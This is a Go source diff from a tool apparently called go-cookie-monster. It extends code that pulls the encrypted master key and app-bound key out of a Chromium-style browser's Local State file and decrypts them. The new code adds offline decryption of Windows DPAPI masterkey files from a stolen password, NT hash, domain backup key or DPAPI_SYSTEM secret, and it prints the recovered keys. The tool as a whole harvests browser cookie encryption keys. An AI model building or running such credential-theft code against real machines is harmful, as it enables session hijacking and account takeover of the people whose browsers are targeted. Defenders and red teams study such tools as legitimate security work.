@@ -1,60 +1,191 @@
 package cookiemonster
 
 import (
+	"crypto/rsa"
+	"encoding/hex"
+	"errors"
 	"fmt"
+	"go-cookie-monster/pkg/browsers"
+	"go-cookie-monster/pkg/decrypt"
+	"go-cookie-monster/pkg/dpapi"
 	"go-cookie-monster/pkg/keys"
 	"log"
 	"os"
 )
 
-func ProcessKeysMode(localStateFilePath string) string {
+func ProcessKeysMode(localStateFilePath string, browser browsers.Browser, dpapiOpts DPAPIOptions) decrypt.Key {
+	// Offline DPAPI masterkeys replace CryptUnprotectData when provided
+	key, err := recoverKeys(NewDependencies(dpapiOpts), localStateFilePath, browser)
+	if err != nil {
+		log.Fatalf("Error recovering keys: %v", err)
+	}
+	return key
+}
+
+// recoverKeys reads the browser's Local State through deps.Files and decrypts its keys with
+// deps.Keys. The returned key holds the master key for v10 values and the app-bound key for v20
+// values; it fails only when neither key was recovered.
+func recoverKeys(deps Dependencies, localStateFilePath string, browser browsers.Browser) (decrypt.Key, error) {
 	var err error
 
 	// If Local State file path is not provided, build it
 	if localStateFilePath == "" {
-		localStateFilePath, err = BuildLocalStatePath()
+		localStateFilePath, err = BuildLocalStatePath(browser)
 		if err != nil {
-			log.Fatalf("Error building Local State path: %v", err)
+			return decrypt.Key{}, fmt.Errorf("error building Local State path: %v", err)
 		}
 	}
 
 	// Read the Local State file
 	fmt.Printf("[*] Attempting to read Local State file: \"%s\"\n", localStateFilePath)
-	content, err := os.ReadFile(localStateFilePath)
+	content, err := deps.Files.ReadLocalState(localStateFilePath)
 	if err != nil {
-		log.Fatalf("Error reading file: %v", err)
+		return decrypt.Key{}, fmt.Errorf("error reading Local State: %v", err)
 	}
 	fmt.Printf("[+] Read %d bytes from file %s\n", len(content), localStateFilePath)
 
+	var key decrypt.Key
+
 	// Get the master key
 	fmt.Println("\n[*] Attempting to extract master key...")
-	masterKey, err := fetchMasterKey(content)
-	if err != nil {
+	if masterKey, err := fetchMasterKey(content, deps.Keys); err != nil {
 		log.Printf("Error fetching master key: %v", err)
+	} else if key.GCM, err = parseKey(masterKey); err != nil {
+		log.Printf("Error parsing master key: %v", err)
+	} else {
+		fmt.Printf("[+] Master Key: %s\n", masterKey)
 	}
-	fmt.Printf("[+] Master Key: %s\n", masterKey)
 
-	// Get the app-bound key
-	fmt.Println("\n[*] Attempting to extract app-bound key...")
-	decryptedAppBoundKey, err := fetchAppBoundKey(content)
+	// Get the app-bound key, when the provider can decrypt it
+	if deps.Keys.CanDecryptAppBound() {
+		fmt.Println("\n[*] Attempting to extract app-bound key...")
+		if appBoundKey, err := fetchAppBoundKey(content, browser, deps.Keys); err != nil {
+			log.Printf("Error fetching app-bound key: %v", err)
+		} else if key.AppBound, err = parseKey(appBoundKey); err != nil {
+			log.Printf("Error parsing app-bound key: %v", err)
+		} else {
+			fmt.Printf("[+] App-Bound Key: %s\n", appBoundKey)
+		}
+	}
+
+	if key.IsZero() {
+		return decrypt.Key{}, errors.New("no key could be recovered from Local State")
+	}
+	return key, nil
+}
+
+// loadOfflineMasterKeys builds a masterkey cache from the -masterkeys list and any
+// masterkey files that decrypt with the given credentials or domain backup key. It returns nil when no
+// offline input was provided.
+func loadOfflineMasterKeys(opts DPAPIOptions) *dpapi.MasterKeyCache {
+	if opts.MasterKeys == "" && opts.ProtectDir == "" {
+		return nil
+	}
+
+	masterKeys := dpapi.NewMasterKeyCache()
+	if opts.MasterKeys != "" {
+		parsed, err := dpapi.ParseMasterKeys(opts.MasterKeys)
+		if err != nil {
+			log.Fatalf("Error parsing DPAPI masterkeys: %v", err)
+		}
+		masterKeys.Merge(parsed)
+	}
+
+	if opts.ProtectDir != "" {
+		creds := dpapi.Credentials{SID: opts.SID, Password: opts.Password}
+		if opts.NTHash != "" {
+			ntHash, err := hex.DecodeString(opts.NTHash)
+			if err != nil || len(ntHash) != 16 {
+				log.Fatalf("Invalid NT hash: %s", opts.NTHash)
+			}
+			creds.NTHash = ntHash
+		}
+		if opts.SHA1 != "" {
+			sha1Hash, err := hex.DecodeString(opts.SHA1)
+			if err != nil || len(sha1Hash) != 20 {
+				log.Fatalf("Invalid SHA1 hash: %s", opts.SHA1)
+			}
+			creds.SHA1 = sha1Hash
+		}
+		creds.BackupKey = loadBackupKey(opts.BackupKey)
+
+		fmt.Printf("[*] Decrypting masterkey files in \"%s\"\n", opts.ProtectDir)
+		recovered, errs := dpapi.LoadMasterKeys(opts.ProtectDir, creds)
+		for _, err := range errs {
+			log.Printf("Error decrypting masterkey: %v", err)
+		}
+		for _, guid := range recovered.GUIDs() {
+			keyHash, _ := recovered.KeyHash(guid)
+			fmt.Printf("[+] Masterkey {%s}:%x\n", guid, keyHash)
+		}
+		masterKeys.Merge(recovered)
+	}
+
+	if masterKeys.Len() == 0 {
+		log.Fatalf("No DPAPI masterkeys available for offline decryption")
+	}
+	fmt.Printf("[*] Using %d offline DPAPI masterkeys\n", masterKeys.Len())
+
+	return masterKeys
+}
+
+// loadBackupKey reads the domain DPAPI backup key, returning nil if no path was given
+func loadBackupKey(path string) *rsa.PrivateKey {
+	if path == "" {
+		return nil
+	}
+
+	data, err := os.ReadFile(path)
 	if err != nil {
-		log.Printf("Error fetching app-bound key: %v", err)
-	} else {
-		//printAppBoundKey(decryptedAppBoundKey)
-		fmt.Printf("[+] App-Bound Key: %s\n", decryptedAppBoundKey)
+		log.Fatalf("Error reading backup key: %v", err)
+	}
+	backupKey, err := dpapi.ParseBackupKey(data)
+	if err != nil {
+		log.Fatalf("Error parsing backup key: %v", err)
 	}
+	fmt.Printf("[+] Loaded %d-bit domain backup key\n", backupKey.N.BitLen())
 
-	// Return the better key
-	if decryptedAppBoundKey == "" {
-		fmt.Printf("[+] returning Master Key: %s\n", masterKey)
-		return masterKey
-	} else {
-		return decryptedAppBoundKey
+	return backupKey
+}
+
+// loadSystemMasterKeys builds the SYSTEM masterkey cache from the -systemmasterkeys list and the
+// SYSTEM masterkey files that decrypt with the DPAPI_SYSTEM secret. It returns nil when neither
+// was provided.
+func loadSystemMasterKeys(opts DPAPIOptions) *dpapi.MasterKeyCache {
+	decryptFiles := opts.SystemKey != "" && opts.SystemProtectDir != ""
+	if opts.SystemMasterKeys == "" && !decryptFiles {
+		return nil
+	}
+
+	systemKeys := dpapi.NewMasterKeyCache()
+	if opts.SystemMasterKeys != "" {
+		parsed, err := dpapi.ParseMasterKeys(opts.SystemMasterKeys)
+		if err != nil {
+			log.Fatalf("Error parsing SYSTEM DPAPI masterkeys: %v", err)
+		}
+		systemKeys.Merge(parsed)
+	}
+
+	if decryptFiles {
+		systemKey, err := dpapi.ParseSystemKey(opts.SystemKey)
+		if err != nil {
+			log.Fatalf("Error parsing DPAPI_SYSTEM secret: %v", err)
+		}
+
+		fmt.Printf("[*] Decrypting SYSTEM masterkey files in \"%s\"\n", opts.SystemProtectDir)
+		recovered, errs := dpapi.LoadMasterKeys(opts.SystemProtectDir, dpapi.Credentials{SystemKey: systemKey})
+		for _, err := range errs {
+			log.Printf("Error decrypting SYSTEM masterkey: %v", err)
+		}
+		systemKeys.Merge(recovered)
 	}
+	fmt.Printf("[*] Using %d SYSTEM DPAPI masterkeys\n", systemKeys.Len())
+
+	return systemKeys
 }
 
-// fetchMasterKey fetches the master key from the Local State file
-func fetchMasterKey(content []byte) (string, error) {
+// fetchMasterKey fetches the master key from the Local State file and decrypts it with provider
+func fetchMasterKey(content []byte, provider KeyProvider) (string, error) {
 	// Pattern to search for
 	pattern := `"encrypted_key":"`
 
@@ -65,7 +196,7 @@ func fetchMasterKey(content []byte) (string, error) {
 	}
 	//fmt.Printf("Extracted Key: %s\n", key)
 
-	decryptedKey, err := keys.GetMasterKey(key)
+	decryptedKey, err := provider.MasterKey(key)
 	if err != nil {
 		return "", fmt.Errorf("error decrypting master key: %v", err)
 	}
@@ -73,8 +204,9 @@ func fetchMasterKey(content []byte) (string, error) {
 	return decryptedKey, nil
 }
 
-// fetchAppBoundKey fetches the app-bound key from the Local State file
-func fetchAppBoundKey(content []byte) (string, error) {
+// fetchAppBoundKey fetches the app-bound key from the Local State file, decrypting it with
+// provider and post-processing it with the browser's constants
+func fetchAppBoundKey(content []byte, browser browsers.Browser, provider KeyProvider) (string, error) {
 	pattern := `"app_bound_encrypted_key":"`
 
 	// Extract the key
@@ -85,7 +217,7 @@ func fetchAppBoundKey(content []byte) (string, error) {
 
 	// fmt.Printf("Extracted App Key: %s\n", appKey)
 
-	decryptedAppBoundKey, err := keys.GetAppBoundKey(appKey)
+	decryptedAppBoundKey, err := provider.AppBoundKey(appKey, browser)
 	if err != nil {
 		return "", fmt.Errorf("error decrypting app-bound key: %v", err)
 	}